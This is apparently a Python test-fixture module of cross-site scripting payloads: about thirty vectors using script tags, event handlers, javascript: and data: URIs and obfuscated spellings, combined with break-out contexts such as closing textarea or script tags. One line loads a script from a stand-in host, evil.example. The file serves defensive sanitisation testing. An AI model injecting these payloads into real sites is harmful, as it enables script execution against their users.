"""XSS payloads as data, shared by the site and download tests: execution vectors placed in the contexts an attacker breaks out of
(attribute values, textarea, title, comments, script blocks) and in obfuscated spellings."""

from __future__ import annotations

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<img src=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href=" jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div onmouseover="alert(1)">hover</div>',
    "<details open ontoggle=alert(1)>",
    '<object data="javascript:alert(1)"></object>',
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</script>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<!--<script>alert(1)</script>-->",
    "<video><source onerror=alert(1)></video>",
    '<a href="https://ok.example/" onclick="alert(1)" target=_blank>ok</a>',
]
CONTEXTS = [
    "{v}",
    '"><{t}',
    "'>{v}",
    "</textarea>{v}",
    "</title>{v}",
    "--><!--{v}",
    "</script>{v}",
    "<p>ok</p>{v}<p>after</p>",
    "{V}",
]


def _place(context: str, vector: str) -> str:
    return context.replace("<{t}", vector).replace("{v}", vector).replace("{V}", vector.upper())


PAYLOADS = [_place(c, v) for c in CONTEXTS for v in VECTORS]
# Tags refuse * < > ^ { } = ` \ %: these reach the tag pages instead.
TAG_PAYLOADS = [
    '" onmouseover "alert(1)',
    "' onfocus 'alert(1)",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src&#61;x onerror&#61;alert(1)&#62;",
    '"/ onload alert(1)',
    "data:text/html;base64,PHNjcmlwdD4",
    "\u202e alert(1)",
]
